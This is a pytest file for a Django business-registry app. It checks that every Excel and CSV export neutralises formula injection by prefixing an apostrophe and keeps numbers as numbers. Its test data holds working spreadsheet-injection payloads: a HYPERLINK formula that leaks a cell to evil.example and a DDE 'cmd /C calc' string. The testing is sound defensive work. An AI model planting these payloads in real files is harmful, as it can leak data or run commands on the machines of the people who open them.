"""Issue 20 items 2 and 3 (exports): every Excel/CSV export neutralises text a spreadsheet would run as a formula
(= + - @, tab, CR first: a leading apostrophe), never fails on stored text (characters a workbook cannot hold are
shown as their pictures), and keeps numbers numbers. One rule (kechuang.engine.io.safe_cell), used by every export:
each export is checked here with firms whose names are hostile."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from django.db import connection
from django.urls import reverse

from kechuang import cli
from kechuang.engine.io import safe_cell, write_frame
from kechuang.enterprises import importing, services
from kechuang.enterprises.models import AnnualFigure, Enterprise, Qualification
from kechuang.policies import services as policy_services
from kechuang.policies.models import Clawback, Entitlement
from tests.points.conftest import figures, scored  # noqa: F401  (fixtures)
from tests.policies.conftest import AS_OF, library, policy, pworld  # noqa: F401  (fixtures)
from tests.policies.test_payouts import confirmed  # noqa: F401  (a fixture)
from tests.tiers.test_tiers_platform import evaluated  # noqa: F401  (a fixture)

# Names that are formulas, or start like one, and hold characters no workbook can (VT, ESC; PostgreSQL stores them).
HOSTILE = {
    "a": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "b": "-2+3+cmd|' /C calc'!A0 乙\x0b材料",
    "c": "@SUM(1+1)*cmd 丙\x1b医药",
}
# As every export must write them.
SHOWN = {
    "a": "'" + HOSTILE["a"],
    "b": "'-2+3+cmd|' /C calc'!A0 乙␋材料",
    "c": "'@SUM(1+1)*cmd 丙␛医药",
}
RISKY = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?$")


def _hostile(world):
    for key, name in HOSTILE.items():
        Enterprise.objects.filter(pk=world[key].pk).update(name=name)


def _cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe(content: bytes, *keys: str) -> list:
    """No formula, no text starting like one, the hostile names as neutralised; returns the cell values."""
    cells = _cells(content)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not RISKY.match(cell.value) or PLAIN_NUMBER.match(cell.value), cell.value
    values = [cell.value for cell in cells]
    for key in keys:
        assert SHOWN[key] in values, (key, values)
    return values


def test_the_rule():
    assert [safe_cell(v) for v in ["=1+1", "+86 号", "-x", "@a", "\tx", "\rx", "a=1", "中文", "'=x"]] == [
        "'=1+1",
        "'+86 号",
        "'-x",
        "'@a",
        "'\tx",
        "'\rx",
        "a=1",
        "中文",
        "'=x",
    ]
    assert [safe_cell(v) for v in ["-12.5", "+3", "-1e5", -12.5, 3, None, dt.date(2024, 1, 1), Decimal("-1")]] == [
        "-12.5",
        "+3",
        "-1e5",
        -12.5,
        3,
        None,
        dt.date(2024, 1, 1),
        Decimal("-1"),
    ]
    assert safe_cell("甲\x00乙\x08丙\x1f") == "甲␀乙␈丙␟"
    assert safe_cell("=\x00") == "'=␀"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_command_line_result_files(tmp_path, suffix):
    """`tiers evaluate`, `points score` and `policies simulate` write through write_frame."""
    frame = pl.DataFrame(
        {"uscc": ["=1+1", "@a", "+b", "\tc", "-12.5", "ok", "x\x00y"], "score": [-1.5, 2.0, None, 3.0, -4.0, 5.0, 6.0]}
    )
    path = tmp_path / f"out{suffix}"
    write_frame(frame, path)
    if suffix == ".csv":
        back = pl.read_csv(path, infer_schema=False)["uscc"].to_list()
        assert back == ["'=1+1", "'@a", "'+b", "'\tc", "-12.5", "ok", "x\x00y"]
        assert pl.read_csv(path)["score"].to_list() == [-1.5, 2.0, None, 3.0, -4.0, 5.0, 6.0]
    else:
        values = _assert_safe(path.read_bytes())
        assert values[2:16:2] == ["'=1+1", "'@a", "'+b", "'\tc", "-12.5", "ok", "x␀y"]
        assert values[3:17:2] == [-1.5, 2, None, 3, -4, 5, 6]


@pytest.mark.django_db
def test_enterprise_export_on_the_page_and_the_command_line(world, client_for, tmp_path):
    _hostile(world)
    AnnualFigure.objects.filter(enterprise=world["a"]).update(net_profit=Decimal("-12.5"))
    response = client_for(world["users"]["bureau_staff"]).get(reverse("enterprises:export"))
    values = _assert_safe(response.content, "a", "b", "c")
    assert -12.5 in values  # a loss stays a number
    path = tmp_path / "facts.xlsx"
    assert cli.main(["export", "facts", str(path)]) == 0
    _assert_safe(path.read_bytes(), "a", "b", "c")
    # Export → import changes nothing: the reader drops the apostrophe again.
    report = importing.import_facts(path)
    assert report["rejected_rows"] == 0
    assert Enterprise.objects.get(pk=world["a"].pk).name == HOSTILE["a"]


@pytest.mark.django_db
@pytest.mark.skipif(connection.vendor != "sqlite", reason="only SQLite can store a NUL in a text column")
def test_a_stored_nul_does_not_break_the_export(world, client_for):
    Enterprise.objects.filter(pk=world["a"].pk).update(name="太原\x00甲")
    response = client_for(world["users"]["bureau_staff"]).get(reverse("enterprises:export"))
    assert response.status_code == 200 and "太原␀甲" in [c.value for c in _cells(response.content)]


@pytest.mark.django_db
def test_audit_export(world, client_for):
    staff = world["users"]["bureau_staff"]
    services.update_enterprise(world["a"], {"name": HOSTILE["a"]}, actor=staff)
    services.update_enterprise(world["b"], {"origin_institution": HOSTILE["c"]}, actor=staff)
    response = client_for(world["users"]["bureau_admin"]).get(reverse("core:audit"), {"format": "xlsx"})
    values = _assert_safe(response.content, "a")
    assert any(isinstance(v, str) and "丙␛医药" in v for v in values)


@pytest.mark.django_db
def test_tier_exports(world, evaluated, client_for):  # noqa: F811
    _hostile(world)
    Qualification.objects.create(
        enterprise=world["b"],
        kind="hte_certificate",
        title="高企证书",
        number="+GR2022",
        issued_on=dt.date.today() - dt.timedelta(days=1000),
        expires_on=dt.date.today() + dt.timedelta(days=30),
    )
    client = client_for(world["users"]["bureau_staff"])
    tier_list = client.get(reverse("tiers:tier_list", args=["tech_sme"]), {"format": "xlsx"})
    _assert_safe(tier_list.content, "a")
    near = client.get(reverse("tiers:near_misses"), {"tier": "tech_sme", "format": "xlsx"})
    _assert_safe(near.content, "b")
    expiring = client.get(reverse("tiers:expiring"), {"format": "xlsx"})
    assert "'+GR2022" in _assert_safe(expiring.content, "b")
    _assert_safe(client.get(reverse("tiers:pipeline"), {"format": "xlsx"}).content)


@pytest.mark.django_db
def test_points_exports(scored, client_for):  # noqa: F811
    _hostile(scored)
    client = client_for(scored["users"]["bureau_staff"])
    _assert_safe(client.get(reverse("points:leaderboard_export")).content, "a", "b", "c")
    _assert_safe(client.get(reverse("points:alerts_export")).content, "b")


@pytest.mark.django_db
def test_policy_exports(confirmed, client_for):  # noqa: F811
    world = confirmed
    _hostile(world)
    staff = world["users"]["bureau_staff"]
    client = client_for(staff)
    _assert_safe(client.get(reverse("policies:entitlements"), {"format": "xlsx"}).content, "a", "b")
    batch = policy_services.assemble_batch(user=staff, policy=policy("rd_subsidy"), year=2025)
    policy_services.approve_batch(user=world["checker"], batch_id=batch.pk)
    _assert_safe(client.get(reverse("policies:batch_export", args=[batch.pk])).content, "a", "b")
    Clawback.objects.create(
        entitlement=Entitlement.objects.get(enterprise=world["a"]),
        amount=Decimal("5"),
        reason="-不再符合",
        flagged_by=staff,
    )
    clawbacks = _assert_safe(client.get(reverse("policies:clawbacks"), {"format": "xlsx"}).content, "a")
    assert "'-不再符合" in clawbacks and 5 in clawbacks


@pytest.mark.django_db
def test_simulation_export(pworld, client_for):  # noqa: F811
    _hostile(pworld)
    admin = pworld["users"]["bureau_admin"]
    draft = policy_services.add_version(
        user=admin,
        policy=policy("rd_subsidy"),
        draft=True,
        effective_from=AS_OF,
        source="草案",
        note="测试",
        changes={
            "benefit": {"kind": "fixed", "amount": 20},
            "eligibility": [{"id": "rd_min", "label": "研发费用不低于200万元", "when": "rd_expense >= 200"}],
        },
    )
    client = client_for(pworld["users"]["bureau_staff"])
    response = client.post(
        reverse("policies:simulate", args=["rd_subsidy"]), {"version": draft.pk, "as_of": "2025-06-30"}
    )
    _assert_safe(client.get(response.url, {"format": "xlsx"}).content, "a", "c")


def test_every_workbook_in_the_code_writes_through_the_rule():
    """A module that builds a workbook appends safe rows: a new export cannot forget the rule."""
    root = Path(__file__).resolve().parents[2] / "src" / "kechuang"
    writers = [p for p in root.rglob("*.py") if "Workbook(" in p.read_text(encoding="utf-8")]
    assert {p.relative_to(root).as_posix() for p in writers} == {
        "core/excel.py",
        "engine/io.py",
        "enterprises/exporting.py",
        "points/exporting.py",
    }
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert "safe_row(" in text or "safe_cell(" in text, path
